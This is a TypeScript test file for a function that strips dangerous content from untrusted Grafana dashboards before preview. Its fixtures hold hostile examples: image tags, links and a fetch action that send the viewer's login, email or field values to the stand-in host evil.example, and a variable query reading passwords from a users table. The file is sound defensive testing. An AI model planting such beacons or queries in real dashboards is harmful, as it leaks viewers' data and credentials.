import { describe, expect, test } from "vitest";
import { classic, v2, v2Element } from "../../../../test/dashboards/source.ts";
import { rewriteForPreview } from "../rewrite.ts";

// biome-ignore lint/suspicious/noExplicitAny: JSON that the tests look into
type Json = any;
const own = { type: "prometheus", uid: "preview" };
const prometheus = { type: "prometheus", uid: "p" };
const rewrite = (dashboard: Parameters<typeof rewriteForPreview>[0], untrusted = true) => {
  const preview = rewriteForPreview(dashboard, { uid: "u", key: "pr-1", dataSource: { ...own, name: "P" }, untrusted });
  return { ...preview, model: preview.model as Json };
};
const targets = [{ refId: "A", expr: "up" }];

describe("rewriteForPreview of an untrusted dashboard", () => {
  test("replaces panels of other data sources, and takes their queries out of mixed ones", () => {
    const panels = [
      {
        id: 1,
        title: "Logs",
        type: "logs",
        datasource: { type: "loki", uid: "l" },
        targets: [{ refId: "A", expr: "{}" }],
      },
      {
        id: 2,
        title: "Both",
        type: "timeseries",
        datasource: { type: "datasource", uid: "-- Mixed --" },
        targets: [
          { refId: "A", expr: "up", datasource: prometheus },
          { refId: "B", rawSql: "SELECT 1", datasource: { type: "mysql", uid: "m" } },
        ],
      },
    ];
    const { model, findings } = rewrite(classic(panels));
    expect(model.panels[0]).toMatchObject({
      id: 1,
      title: "Logs",
      type: "text",
      options: { content: expect.stringContaining("asks loki") },
    });
    expect(model.panels[0].targets).toBeUndefined();
    expect(model.panels[1].targets).toEqual([{ refId: "A", expr: "up", datasource: own }]);
    expect(findings.map(({ code, panelId }) => [code, panelId])).toEqual([
      ["untrusted", 1],
      ["untrusted", 2],
    ]);
    expect(rewrite(classic(panels), false).model.panels[0].type).toBe("logs");
  });

  test("replaces panels of plugins and of maps, which load what they like", () => {
    const { model } = rewrite(
      classic(
        ["geomap", "canvas", "some-html-panel", "stat"].map((type, id) => ({
          id,
          title: type,
          type,
          datasource: prometheus,
          targets,
        })),
      ),
    );
    expect(model.panels.map(({ type }: Json) => type)).toEqual(["text", "text", "text", "stat"]);
  });

  test("takes out pictures, links out, actions and the one who looks, everywhere", () => {
    const { model } = rewrite(
      classic(
        [
          {
            id: 1,
            title: "Hi ${__user.login}",
            description: "![](https://evil.example/a.png)",
            type: "table",
            datasource: prometheus,
            targets: [{ refId: "A", expr: 'up{u="${__user.login}"}' }],
            links: [
              { title: "out", url: "https://evil.example" },
              { title: "in", url: "/d/x?u=${__user.login}" },
            ],
            fieldConfig: {
              defaults: {
                links: [{ url: "https://evil.example/${__value.raw}" }],
                actions: [{ type: "fetch", fetch: { url: "https://evil.example" } }],
                custom: { cellOptions: { type: "image" } },
              },
              overrides: [
                {
                  matcher: { id: "byName", options: "x" },
                  properties: [
                    { id: "links", value: [{ url: "//evil.example" }] },
                    { id: "custom.cellOptions", value: { type: "markdown" } },
                  ],
                },
              ],
            },
            options: { picture: "https://evil.example/b.png", showHeader: true },
          },
          {
            id: 2,
            title: "T",
            type: "text",
            options: { mode: "html", content: '<img src="https://evil.example/?u=${__user.email}"><b>ok</b>' },
          },
          { id: 3, title: "Old", type: "text", mode: "markdown", content: "![](https://evil.example)" },
        ],
        {
          links: [
            { type: "link", title: "out", url: "https://evil.example" },
            { type: "dashboards", title: "others", tags: ["web"] },
          ],
        },
      ),
    );
    const text = JSON.stringify(model);
    expect(text).not.toContain("evil.example");
    expect(text).not.toContain("__user");
    expect(model.panels[0]).toMatchObject({
      options: { picture: "", showHeader: true },
      links: [{ title: "in", url: "/d/x?u=-" }],
    });
    expect(text).not.toContain('markdown"}}');
    expect(model.panels[0].fieldConfig.defaults).toMatchObject({
      links: [],
      actions: [],
      custom: { cellOptions: { type: "auto" } },
    });
    expect(model.panels[1].options.content).toBe("<b>ok</b>");
    expect(model.links.map(({ title }: Json) => title)).toEqual(["others"]);
  });

  test("asks other data sources for no variable and no annotation", () => {
    const { model, findings } = rewrite(
      classic([], {
        templating: {
          list: [
            {
              name: "v",
              type: "query",
              datasource: { type: "mysql", uid: "m" },
              query: "SELECT password FROM users",
              current: { text: "a", value: "a" },
            },
          ],
        },
        annotations: { list: [{ name: "n", datasource: { type: "loki", uid: "l" }, enable: true, expr: "{}" }] },
      }),
    );
    expect(model.templating.list[0]).toMatchObject({ name: "v", type: "custom", query: "a" });
    expect(model.annotations.list[0]).toMatchObject({ name: "n", enable: false, datasource: { type: "grafana" } });
    expect(JSON.stringify(model)).not.toMatch(/SELECT|loki/);
    expect(findings).toHaveLength(2);
  });

  test("reads no library panel from Grafana", () => {
    const preview = rewriteForPreview(classic([{ id: 1, libraryPanel: { uid: "l", name: "L" } }]), {
      uid: "u",
      key: "k",
      dataSource: { ...own, name: "P" },
      untrusted: true,
      libraryPanels: new Map([["l", { type: "stat", title: "secret" }]]),
    });
    expect(JSON.stringify(preview.model)).not.toContain("secret");
  });

  test("says of every panel, variable and annotation that it replaces what it was", () => {
    const { findings } = rewrite(
      classic(
        [
          { id: 1, title: "By name", libraryPanel: { name: "L" } },
          {
            id: 2,
            title: "Odd",
            type: "stat",
            datasource: prometheus,
            targets,
            options: { a: { kind: "x", group: "y" } },
          },
          {
            id: 3,
            title: "Notes",
            type: "stat",
            datasource: { type: "grafana", uid: "anything" },
            targets: [{ refId: "A", queryType: "list" }],
          },
        ],
        {
          templating: { list: [{ name: "v", type: "mystery" }] },
          annotations: {
            list: [
              {
                name: "n",
                datasource: { type: "grafana", uid: "-- Grafana --" },
                target: { type: "tags", tags: ["x"] },
              },
            ],
          },
        },
      ),
    );
    expect(
      findings.map(({ code, panelId, variable, annotation }) => [code, panelId ?? variable ?? annotation]),
    ).toEqual([
      ["untrusted", 1],
      ["untrusted", 3],
      ["untrusted", "v"],
      ["untrusted", "n"],
      ["untrusted", 2],
    ]);
    expect(findings.map(({ reason }) => reason)).toEqual([
      "is a library panel: not shown for an untrusted dashboard",
      "asks grafana: not shown for an untrusted dashboard",
      "is of the type mystery: its saved value is used instead",
      "asks -- Grafana --: removed from an untrusted dashboard",
      "holds the property group, which is not known to be harmless: removed from an untrusted dashboard",
    ]);
  });

  test("is confined in schema v2 as well", () => {
    const html = v2Element(3, "H", []) as Json;
    html.spec.vizConfig.group = "text";
    html.spec.vizConfig.spec.options = { mode: "html", content: "<img src=//evil.example>x" };
    const mixed = v2Element(2, "M", [{ expr: "up" }, { expr: "{}", group: "loki", uid: "l" }]);
    const { model } = rewrite(
      v2({ a: v2Element(1, "L", [{ expr: "{}", group: "loki", uid: "l" }]), b: mixed, c: html }),
    );
    expect(model.elements.a.spec).toMatchObject({
      id: 1,
      vizConfig: { group: "text" },
      data: { spec: { queries: [] } },
    });
    expect(model.elements.b.spec.data.spec.queries).toHaveLength(1);
    expect(model.elements.c.spec.vizConfig.spec.options.content).toBe("x");
  });
});
